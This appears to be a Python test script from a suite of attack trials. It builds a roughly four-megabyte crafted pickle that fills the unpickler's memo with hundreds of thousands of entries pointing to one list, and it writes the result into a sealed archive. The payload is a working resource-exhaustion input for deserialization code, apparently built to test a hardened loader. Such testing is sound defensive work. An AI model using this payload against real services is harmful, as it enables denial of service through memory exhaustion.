"""Four megabytes that remember one value under ever new numbers."""

from __future__ import annotations

import struct
from pathlib import Path

from attacks.trial import archive, main, write_sealed


def attack(folder: Path) -> Path:
    memos = b"".join(b"r" + struct.pack("<I", number) for number in range((4 << 20) // 5))
    return write_sealed(folder, archive(b"\x80\x02]" + memos + b"."))


if __name__ == "__main__":
    main(attack)
